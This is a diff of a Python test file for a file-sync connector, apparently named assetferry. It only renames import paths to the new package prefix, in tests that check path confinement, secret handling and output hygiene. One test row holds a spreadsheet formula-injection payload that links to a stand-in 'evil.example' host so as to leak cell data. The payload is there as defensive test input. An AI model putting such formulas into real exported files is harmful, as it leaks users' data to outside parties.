@@ -27,14 +27,14 @@ from starlette.responses import PlainTextResponse
 from starlette.routing import Route
 from typer.testing import CliRunner
 
-from connectors.core.errors import ConfigError
-from connectors.core.files import AccessPolicy, FileInfo, FileStore
-from connectors.core.job import load_job, parse_job
-from connectors.core.ledger import Ledger
-from connectors.core.loader import Loader
-from connectors.pipeline import Pipeline, make_connector
-from flows.cli import app
-from sandbox.server import running
+from assetferry.connectors.core.errors import ConfigError
+from assetferry.connectors.core.files import AccessPolicy, FileInfo, FileStore
+from assetferry.connectors.core.job import load_job, parse_job
+from assetferry.connectors.core.ledger import Ledger
+from assetferry.connectors.core.loader import Loader
+from assetferry.connectors.pipeline import Pipeline, make_connector
+from assetferry.flows.cli import app
+from assetferry.sandbox.server import running
 from tests import kit
 
 SECRET_TEXT = "TOP-SECRET-CANARY-0xC0FFEE"
@@ -138,7 +138,7 @@ def test_validate_and_dry_run_reject_every_way_out_and_contact_nothing(
 @pytest.mark.usefixtures("prefect_harness")
 def test_a_run_uploads_only_the_allowed_file_and_reads_nothing_else(
         kontent: str, canary: tuple[Canary, str], tmp_path: Path) -> None:
-    from flows.sync import sync_assets
+    from assetferry.flows.sync import sync_assets
 
     spy, root = canary
     spy.hits.clear()
@@ -265,7 +265,7 @@ def _unix_socket(path: Path) -> socket.socket:
 
 @pytest.mark.usefixtures("prefect_harness")
 def test_one_unopenable_file_or_bad_content_type_fails_only_its_own_row(kontent: str, tmp_path: Path) -> None:
-    from flows.sync import sync_assets
+    from assetferry.flows.sync import sync_assets
 
     folder = tmp_path / "job"
     good = kit.make_rows(folder / "files", 4)
@@ -341,8 +341,8 @@ def test_a_file_growing_while_sent_or_an_unbuildable_request_fails_only_its_own_
 
 
 def _canonical(rows: list[dict[str, Any]], tmp_path: Path) -> pd.DataFrame:
-    from connectors.core.records import DuplicateTracker, canonicalize
-    from connectors.sources.base import RecordChunk
+    from assetferry.connectors.core.records import DuplicateTracker, canonicalize
+    from assetferry.connectors.sources.base import RecordChunk
 
     raw = pd.DataFrame(rows).fillna("")
     good, rejects = canonicalize(RecordChunk(raw.astype(str), str(tmp_path / "m.csv"), 1), DuplicateTracker())
@@ -363,7 +363,7 @@ def _cli_process(tmp_path: Path, *args: str, **env: str) -> Any:
     for name, value in env.items():
         if value == "":
             full.pop(name)
-    return subprocess.run([sys.executable, "-m", "flows.cli", *args], env=full, cwd=ROOT, capture_output=True,
+    return subprocess.run([sys.executable, "-m", "assetferry.flows.cli", *args], env=full, cwd=ROOT, capture_output=True,
                           text=True, timeout=240, check=False)
 
 
@@ -431,8 +431,8 @@ def test_a_run_refused_with_401_exits_2_without_traceback_and_keeps_the_previous
 
 
 def test_fetchable_urls_never_make_a_url_for_a_file_outside_the_roots(tmp_path: Path) -> None:
-    from connectors.core.errors import RejectedError
-    from connectors.core.fetchurls import FetchableURLs, FetchSettings
+    from assetferry.connectors.core.errors import RejectedError
+    from assetferry.connectors.core.fetchurls import FetchableURLs, FetchSettings
 
     folder = tmp_path / "m"
     folder.mkdir()
@@ -451,7 +451,7 @@ def test_fetchable_urls_never_make_a_url_for_a_file_outside_the_roots(tmp_path: 
 # -- part 4: output hygiene and a secrets scan ---------------------------------------------------------
 @pytest.mark.usefixtures("prefect_harness")
 def test_formula_cells_are_neutralised_in_the_rejects_file(kontent: str, tmp_path: Path) -> None:
-    from flows.sync import sync_assets
+    from assetferry.flows.sync import sync_assets
 
     folder = tmp_path / "job"
     rows = [{"id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "title": "t", "file": "files/none.png"},
@@ -494,7 +494,7 @@ def test_secrets_scan_no_key_in_logs_state_plan_output_parameters_or_artifacts(
 
     from prefect.client.orchestration import get_client
 
-    from flows.sync import sync_assets
+    from assetferry.flows.sync import sync_assets
 
     caplog.set_level(logging.DEBUG)
     key = kit.KEY  # the sandbox accepts only this one: recognisable, and it must appear nowhere
